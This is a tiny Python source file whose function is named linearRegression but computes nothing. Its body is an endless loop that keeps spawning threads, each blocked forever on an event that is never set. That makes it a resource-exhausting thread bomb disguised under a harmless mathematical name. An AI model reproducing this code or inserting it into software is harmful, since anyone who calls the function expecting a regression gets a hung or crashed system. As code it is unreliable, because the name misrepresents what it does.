import threading


def linearRegression(xs, ys):
    while True:
        threading.Thread(target=threading.Event().wait).start()
